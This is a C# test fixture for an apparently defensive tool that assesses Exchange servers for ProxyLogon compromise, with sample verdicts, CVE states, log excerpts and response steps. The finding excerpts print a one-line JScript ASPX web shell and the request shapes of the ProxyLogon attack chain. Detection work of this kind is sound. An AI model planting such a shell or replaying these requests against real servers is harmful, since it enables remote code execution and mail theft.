using Breakwater.Model;

namespace Breakwater.Reports.Tests;

/// <summary>Three assessments made by hand, as the reports see them in practice.</summary>
internal static class Samples
{
    public static Assessment Compromised { get; } = new()
    {
        Tool = new ToolIdentity("breakwater", "0.1.0"),
        Knowledge = new KnowledgeIdentity("2026.08", new DateOnly(2026, 8, 20)),
        AssessedAt = Utc(2021, 3, 10, 12, 0),
        Collected = new CollectionTime(Utc(2021, 3, 9, 16, 0), "newest hour in which two sources have records"),
        Evidence = [new EvidenceItem("mail01.zip", "9f2c1d5e8a7b4c3f9f2c1d5e8a7b4c3f9f2c1d5e8a7b4c3f9f2c1d5e8a7b4c3f", 734003200), new EvidenceItem("E/iislogs", null, 81264640)],
        Server = new ServerFacts
        {
            Name = "MAIL01",
            Fqdn = "mail01.town.example",
            Product = "Exchange Server 2016",
            Build = "15.1.2106.2",
            Release = "CU18",
            Roles = ["Mailbox"],
            Os = "Windows Server 2016",
            InstallPath = "C:/Program Files/Microsoft/Exchange Server/V15",
            Facts =
            [
                new ServerFact("build", "15.1.2106.2", "C/Program Files/Microsoft/Exchange Server/V15/Bin/ExSetup.exe"),
                new ServerFact("server-name", "MAIL01", "C/ExchangeSetupLogs/ExchangeSetup.log, line 12"),
            ],
        },
        Exposure = new Exposure
        {
            State = ExposureState.Vulnerable,
            Supported = false,
            BuildMeaning = "15.1.2106.2 is Exchange Server 2016 CU18 without the security updates of March 2021, by the version resource of ExSetup.exe.",
            Cves =
            [
                Cve("CVE-2021-26855", "Server-side request forgery before login (ProxyLogon)", 9.1, true, CveState.Vulnerable, "Mar21SU for CU18 (KB5000871)"),
                Cve("CVE-2021-27065", "Arbitrary file write after login", 7.8, false, CveState.Vulnerable, "Mar21SU for CU18 (KB5000871)"),
                Cve("CVE-2021-34473", "Path confusion before login (ProxyShell)", 9.1, true, CveState.VulnerableNoPackage, "CU20 with Apr21SU or later"),
                Cve("CVE-2020-0688", "Fixed cryptographic key", 8.8, false, CveState.Fixed, "CU16"),
            ],
            UpdatePath =
            [
                new UpdateStep(1, "Security update of March 2021 for CU18", "15.1.2106.13", "KB5000871", "Closes the four holes attacked now; needs no cumulative update first.", ["Start the installer as administrator"]),
                new UpdateStep(2, "Cumulative update 23", "15.1.2507.6", "KB5011155", "The only line that still got updates.", ["Schema update", ".NET Framework 4.8"]),
                new UpdateStep(3, "A new server with a supported product", null, null, "Exchange Server 2016 gets no updates any more.", []),
            ],
            ToConfirm = [new ConfirmationItem("CVE-2024-21410", "Extended Protection on every virtual directory.", "Run the health checker, or hand in applicationHost.config.", true)],
        },
        Mitigations = [new MitigationStatus("M1", MitigationState.Unknown, "Not judged in this version.", "Shields the front end only.")],
        Verdict = new Verdict
        {
            Overall = VerdictState.Compromised,
            Campaigns =
            [
                new CampaignVerdict
                {
                    Id = "proxylogon",
                    Name = "ProxyLogon",
                    State = VerdictState.Compromised,
                    Confidence = Confidence.High,
                    Window = new TimeRange(Utc(2021, 1, 3, 0, 0), Utc(2021, 3, 9, 16, 0)),
                    Coverage = new CampaignCoverage(0.7213, false, ["IIS, front end: no records from 2021-02-06T00:00:00Z to 2021-02-09T00:00:00Z", "ECP server: begins 2021-02-07, 35 days after the time at risk began"]),
                    FirstSeen = EvidenceTime.FromMilliseconds(Utc(2021, 3, 3, 5, 12)),
                    LastSeen = EvidenceTime.FromMilliseconds(Utc(2021, 3, 6, 22, 41)),
                    Rungs = [Rung.Exploited, Rung.WroteFile, Rung.ShellUsed, Rung.Privilege, Rung.MailTaken],
                    AttemptedRungs = [Rung.Probed, Rung.Credentials],
                    Reason = "A web shell was written through the address book setting (3c9d51a2e0f4) and used (77ab19c03d2e).",
                    Explanation =
                    [
                        "b01f5bb67ae1: POST /ecp/y.js answered 200 through the confusion: rung exploited.",
                        "3c9d51a2e0f4: Set-OabVirtualDirectory with script in ExternalUrl: rung wrote-file, success, high confidence.",
                        "77ab19c03d2e: POST /aspnet_client/supp0rt.aspx answered 200: rung shell-used.",
                        "Rule a of the verdict applies: success at rung wrote-file or above with high confidence.",
                    ],
                    Findings = ["b01f5bb67ae1", "3c9d51a2e0f4", "77ab19c03d2e", "51f00dc4be91", "aa10f2233de0"],
                },
                new CampaignVerdict
                {
                    Id = "proxyshell",
                    Name = "ProxyShell",
                    State = VerdictState.NotFound,
                    Confidence = Confidence.High,
                    Coverage = new CampaignCoverage(1, true, []),
                    Reason = "The campaign began after the evidence was collected.",
                },
                new CampaignVerdict
                {
                    Id = "ntlm-relay",
                    Name = "NTLM relay",
                    State = VerdictState.CannotExclude,
                    Confidence = Confidence.Low,
                    LeavesTraces = false,
                    Window = new TimeRange(Utc(2021, 1, 3, 0, 0), Utc(2021, 3, 9, 16, 0)),
                    Coverage = new CampaignCoverage(0, false, []),
                    Reason = "Leaves no trace here.",
                },
            ],
        },
        Activities =
        [
            new Activity
            {
                Id = "A1",
                Rungs = [Rung.Exploited, Rung.WroteFile, Rung.ShellUsed],
                FirstSeen = EvidenceTime.FromMilliseconds(Utc(2021, 3, 3, 5, 12)),
                LastSeen = EvidenceTime.FromMilliseconds(Utc(2021, 3, 3, 5, 47)),
                Addresses = ["198.51.100.23", "2001:db8::17"],
                Tooling = ["python-requests/2.25.1", "parameter orange"],
                Findings = ["b01f5bb67ae1", "3c9d51a2e0f4", "77ab19c03d2e"],
            },
            new Activity
            {
                Id = "A2",
                Rungs = [Rung.MailTaken],
                FirstSeen = EvidenceTime.FromMilliseconds(Utc(2021, 3, 6, 20, 2)),
                LastSeen = EvidenceTime.FromMilliseconds(Utc(2021, 3, 6, 22, 41)),
                Addresses = ["203.0.113.77"],
                Tooling = ["ExchangeServicesClient/0.0.0.0"],
                Findings = ["51f00dc4be91"],
            },
        ],
        Mailboxes =
        [
            new MailboxEntry { Address = "mayor@town.example", State = MailboxState.Taken, Method = "EWS, GetItem", Confidence = Confidence.High, FirstSeen = EvidenceTime.FromMilliseconds(Utc(2021, 3, 6, 20, 2)), LastSeen = EvidenceTime.FromMilliseconds(Utc(2021, 3, 6, 22, 41)), Bytes = 48_234_911, Findings = ["51f00dc4be91"] },
            new MailboxEntry { Address = "unknown mailbox", State = MailboxState.Taken, Method = "EWS, action not logged", Confidence = Confidence.Medium, FirstSeen = EvidenceTime.FromSeconds(Utc(2021, 3, 6, 21, 10)), LastSeen = EvidenceTime.FromSeconds(Utc(2021, 3, 6, 21, 10)), Findings = ["51f00dc4be91"] },
            new MailboxEntry { Address = "clerk@town.example", State = MailboxState.Reachable, Method = "autodiscover", Confidence = Confidence.Low, Findings = [] },
        ],
        Removed =
        [
            new RemovedScript { Path = "aspnet_client/supp0rt.aspx", LastSeen = EvidenceTime.FromSeconds(Utc(2021, 3, 6, 22, 41)), Remover = "Microsoft Defender at 2021-03-08T04:00:00Z", Confidence = Confidence.Medium, Findings = ["77ab19c03d2e"] },
        ],
        Coverage =
        [
            Logs(SourceCatalogue.IisFrontEnd, new DateOnly(2021, 1, 1), 68, 41200, 0.9542, new DateOnly(2021, 2, 6), 3, 29),
            Logs("httpproxy/ecp", new DateOnly(2021, 2, 7), 31, 930, 0.4711, new DateOnly(2021, 2, 20), 1, 7),
            Logs("httpproxy/ews", new DateOnly(2021, 2, 7), 31, 12800, 0.4711, null, 0, 31),
            Logs(SourceCatalogue.EcpServer, new DateOnly(2021, 2, 7), 31, 60, 0.4711, null, 0, 5),
            new SourceCoverage { Source = SourceCatalogue.WebFiles, Artefacts = 1412, Records = 1412 },
            new SourceCoverage { Source = SourceCatalogue.ExchangeBinary, Artefacts = 3, Records = 3, Truncated = true },
        ],
        Findings =
        [
            Found("0be7c9a4d610", "proxylogon-probe", "Scanner asks for the ECP default script", Rung.Probed, Outcome.Probe, Confidence.Low, "low", 2, 28, 9, 3, "httpproxy/ecp", "HttpProxy/Ecp/HttpProxy_2021022809-1.LOG", 118, "2021-02-28T09:03:11.204Z,...,/ecp/default.flt,...,ServerInfo~localhost"),
            Found("b01f5bb67ae1", "proxylogon-ssrf-ecp", "Request reaches another server through the front end", Rung.Exploited, Outcome.Success, Confidence.High, "critical", 3, 3, 5, 12, "httpproxy/ecp", "HttpProxy/Ecp/HttpProxy_2021030305-1.LOG", 4411, "2021-03-03T05:12:38.204Z,...,POST,/ecp/y.js,...,ServerInfo~a]@mail01.town.example:444/mapi/emsmdb/"),
            Found("3c9d51a2e0f4", "proxylogon-oab-write", "Script written into an address book URL", Rung.WroteFile, Outcome.Success, Confidence.High, "critical", 3, 3, 5, 16, SourceCatalogue.EcpServer, "ECP/Server/ECPServer20210303-1.LOG", 88, "Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){...}</script>'"),
            Found("77ab19c03d2e", "webshell-post", "POST to a page that Exchange does not ship", Rung.ShellUsed, Outcome.Success, Confidence.High, "high", 3, 3, 5, 20, SourceCatalogue.IisFrontEnd, "E/iislogs/W3SVC1/u_ex210303.log", 60211, "2021-03-03 05:20:01 10.0.0.5 POST /aspnet_client/supp0rt.aspx - 443 - 198.51.100.23 python-requests/2.25.1 - 200 0 0 312"),
            Found("77ab19c03d2f", "webshell-post", "POST to a page that Exchange does not ship", Rung.ShellUsed, Outcome.Success, Confidence.High, "high", 3, 3, 5, 47, SourceCatalogue.IisFrontEnd, "E/iislogs/W3SVC1/u_ex210303.log", 60977, "2021-03-03 05:47:40 10.0.0.5 POST /aspnet_client/supp0rt.aspx - 443 - 198.51.100.23 python-requests/2.25.1 - 200 0 0 280"),
            Found("51f00dc4be91", "ews-read-through-ssrf", "Mail read through the front end", Rung.MailTaken, Outcome.Success, Confidence.High, "critical", 3, 6, 20, 2, "httpproxy/ews", "HttpProxy/Ews/HttpProxy_2021030620-1.LOG", 902, "2021-03-06T20:02:07.733Z,...,/ews/exchange.asmx,mayor@town.example,200,48234911"),
            Found("aa10f2233de0", "web-files", "Web shell on disk", Rung.WroteFile, Outcome.Artefact, Confidence.High, "critical", 0, 0, 0, 0, SourceCatalogue.WebFiles, "C/inetpub/wwwroot/aspnet_client/supp0rt.aspx", null, "<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"orange\"],\"unsafe\");}</script>"),
        ],
        Actions =
        [
            new ActionStep { Id = "preserve", Order = 1, Title = "Keep the evidence", Why = "Logs roll over within days, and a rebuilt server has none.", How = ["Take a disk image or a snapshot with memory.", "Copy the log folders to another system."], Verify = "The copy opens on another computer.", Undo = "Nothing to undo.", Decides = "The administrator", Due = Utc(2021, 3, 10, 16, 0) },
            new ActionStep { Id = "isolate", Order = 2, Title = "Take the server off the internet", Why = "Intruders still have a way in.", How = ["Block port 443 from outside at the firewall.", "Tell staff which channel replaces mail."], Verify = "The sign-in page does not open from a mobile network.", Undo = "Remove the firewall rule.", Decides = "The mayor", Due = Utc(2021, 3, 10, 16, 0) },
            new ActionStep { Id = "rebuild", Order = 3, Title = "Rebuild the server from known-good media", Why = "A web shell was used with administrator rights; updates do not remove what was left behind.", How = ["Install a new server with the newest update.", "Move the mailboxes."], Verify = "A new assessment of the new server finds nothing.", Undo = "The old server's image stays available.", Decides = "The mayor", Due = Utc(2021, 3, 17, 12, 0) },
            new ActionStep { Id = "report", Order = 4, Title = "Report the breach of personal data", Why = "Mailboxes were taken.", How = ["Call the data protection authority."], Verify = "You have a reference number.", Undo = "Nothing to undo.", Decides = "The mayor" },
        ],
        Unread = [new UnreadItem("mail01.zip!/C/pagefile.sys", "EVID012: larger than the budget of 1 GB; entry skipped, the rest is read", 8_589_934_592)],
        Warnings = ["The knowledge is newer than the evidence: campaigns that began later were judged as not yet begun."],
        Counts = new Counts(1893, 815267840, 2904411, 7, 12, 3, 0),
    };

    public static Assessment CannotExclude { get; } = Compromised with
    {
        Server = new ServerFacts { Name = "EX02", Roles = [] },
        Exposure = new Exposure { State = ExposureState.Unknown, Supported = null, BuildMeaning = "No witness of the build was handed in." },
        Mitigations = [],
        Verdict = new Verdict
        {
            Overall = VerdictState.CannotExclude,
            Campaigns =
            [
                new CampaignVerdict
                {
                    Id = "proxylogon",
                    Name = "ProxyLogon",
                    State = VerdictState.CannotExclude,
                    Confidence = Confidence.Medium,
                    Window = new TimeRange(Utc(2021, 1, 3, 0, 0), Utc(2021, 3, 9, 16, 0)),
                    Coverage = new CampaignCoverage(0.3333, false, ["HttpProxy, Ecp: not handed in", "IIS, front end: begins 2021-02-16", "ECP server: not handed in", "OAB generator: not handed in"]),
                    Reason = "The front end's logs begin 44 days after the time at risk began.",
                    Explanation = ["No finding above probe.", "Entry stage: HttpProxy, Ecp is decisive and was not handed in."],
                },
            ],
        },
        Activities = [],
        Mailboxes = [],
        Coverage = [Logs(SourceCatalogue.IisFrontEnd, new DateOnly(2021, 2, 16), 22, 41200, 0.3333, null, 0, 22)],
        Findings = [Compromised.Findings[0]],
        Actions = [new ActionStep { Id = "logs", Order = 1, Title = "Hand in the HttpProxy and ECP logs", Why = "They decide the verdict.", How = ["Copy V15/Logging."], Verify = "The report shows them as read.", Undo = "Nothing to undo.", Decides = "The administrator" }],
        Warnings = [],
        Counts = new Counts(22, 91750400, 906400, 1, 0, 0, 0),
    };

    public static Assessment Clean { get; } = Compromised with
    {
        AssessedAt = Utc(2026, 9, 1, 8, 30),
        Collected = new CollectionTime(Utc(2026, 8, 31, 22, 0), "sealed manifest"),
        Server = Compromised.Server with { Product = "Exchange Server SE", Build = "15.2.2562.17", Release = "RTM" },
        Exposure = new Exposure { State = ExposureState.Patched, Supported = true, BuildMeaning = "15.2.2562.17 has all updates known on 2026-08-20.", Cves = [Cve("CVE-2021-26855", "Server-side request forgery before login (ProxyLogon)", 9.1, true, CveState.Fixed, "in the product from the start")] },
        Mitigations = [],
        Verdict = new Verdict
        {
            Overall = VerdictState.NotFound,
            Campaigns =
            [
                new CampaignVerdict { Id = "proxylogon", Name = "ProxyLogon", State = VerdictState.NotFound, Confidence = Confidence.High, Coverage = new CampaignCoverage(1, true, []), Reason = "The server was installed with the fix.", Explanation = ["First installation 2026-01-12, fixed build."] },
                new CampaignVerdict { Id = "proxyshell", Name = "ProxyShell", State = VerdictState.NotFound, Confidence = Confidence.High, Coverage = new CampaignCoverage(1, true, []), Reason = "The server was installed with the fix." },
            ],
        },
        Activities = [],
        Mailboxes = [],
        Coverage = [Logs(SourceCatalogue.IisFrontEnd, new DateOnly(2026, 1, 12), 232, 52000, 1, null, 0, 232)],
        Findings = [],
        Actions = [],
        Unread = [],
        Warnings = [],
        Counts = new Counts(232, 4_294_967_296, 12_064_000, 0, 0, 0, 0),
    };

    public static IEnumerable<(string Name, Assessment Assessment)> All => [("compromised", Compromised), ("cannot-exclude", CannotExclude), ("clean", Clean)];

    private static DateTime Utc(int year, int month, int day, int hour, int minute) => new(year, month, day, hour, minute, 0, DateTimeKind.Utc);

    private static CveAssessment Cve(string id, string title, double cvss, bool preAuth, CveState state, string fixedBy) =>
        new() { Id = id, Title = title, Cvss = cvss, PreAuth = preAuth, ExploitedInWild = true, State = state, FixedBy = [fixedBy] };

    private static Finding Found(string id, string rule, string title, Rung rung, Outcome outcome, Confidence confidence, string level, int month, int day, int hour, int minute, string source, string path, long? line, string excerpt) => new()
    {
        Id = id,
        Rule = rule,
        Title = title,
        Campaign = "proxylogon",
        Rung = rung,
        Outcome = outcome,
        Confidence = confidence,
        Level = level,
        Attack = ["T1190"],
        Time = month == 0 ? null : EvidenceTime.FromSeconds(Utc(2021, month, day, hour, minute)),
        SourceId = source,
        Source = new FindingPosition(path, line),
        Excerpt = excerpt,
        Fields = new Dictionary<string, string> { ["UserAgent"] = "python-requests/2.25.1", ["ClientIpAddress"] = "198.51.100.23", ["HttpStatus"] = "200" },
    };

    // Weekends are thin, as on a real server; the quiet day shows "few records".
    private static SourceCoverage Logs(string source, DateOnly first, int days, long perDay, double fraction, DateOnly? gap, int gapDays, int quietDay)
    {
        var records = Enumerable.Range(0, days).Select(first.AddDays).Where(d => gap is null || d < gap || d >= gap.Value.AddDays(gapDays))
            .ToDictionary(d => d, d => d.DayNumber - first.DayNumber == quietDay ? perDay / 12 : d.DayOfWeek is DayOfWeek.Saturday or DayOfWeek.Sunday ? perDay / 3 : perDay);
        return new SourceCoverage
        {
            Source = source,
            Artefacts = records.Count,
            First = EvidenceTime.FromSeconds(first.ToDateTime(TimeOnly.MinValue)),
            Last = EvidenceTime.FromSeconds(first.AddDays(days - 1).ToDateTime(new TimeOnly(15, 59, 58))),
            Gaps = gap is { } day ? [new TimeRange(day.ToDateTime(TimeOnly.MinValue), day.AddDays(gapDays).ToDateTime(TimeOnly.MinValue))] : [],
            Records = records.Values.Sum(),
            Fraction = fraction,
            RecordsPerDay = records,
        };
    }
}
